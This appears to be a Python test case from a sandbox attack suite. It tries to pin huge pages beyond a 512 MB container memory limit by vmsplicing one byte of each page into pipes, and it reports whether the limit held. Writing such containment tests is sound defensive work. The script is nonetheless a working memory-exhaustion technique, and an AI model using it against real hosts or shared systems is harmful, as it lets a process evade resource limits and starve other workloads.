# class: resource
# tries: huge pages that one byte in a pipe keeps alive after their owner gave them back
# network: any
# bomb: yes
# with: --memory 512
# timeout: 20
import ctypes
import mmap
import os

HOST = "@PIDNS@"  # filled in by attack_suite.py
if not HOST.startswith("pid:") or os.readlink("/proc/self/ns/pid") == HOST:
    raise SystemExit("a bomb starts only in a pid namespace of its own")
print("ATTEMPTED: pinning", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20
area = mmap.mmap(-1, 2 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
page = -(-ctypes.addressof(ctypes.c_char.from_buffer(area)) // HUGE) * HUGE
one_byte = (ctypes.c_size_t * 2)(page, 1)
libc.madvise(page, HUGE, mmap.MADV_HUGEPAGE)
pinned = 0
try:
    while pinned < 600:
        fds = os.pipe()
        for _ in range(16):
            ctypes.memset(page, 1, 1)
            huge = "AnonHugePages:      2048" in open("/proc/self/smaps_rollup").read()
            if not huge or libc.vmsplice(fds[1], one_byte, ctypes.c_ulong(1), 2) < 0:
                break
            pinned += 1
            libc.madvise(page, HUGE, mmap.MADV_DONTNEED)
        if not huge:
            break
except OSError:
    pass
print(f"ESCAPED: {pinned * 2} MB pinned" if pinned > 500 else f"HELD: {pinned * 2} MB")
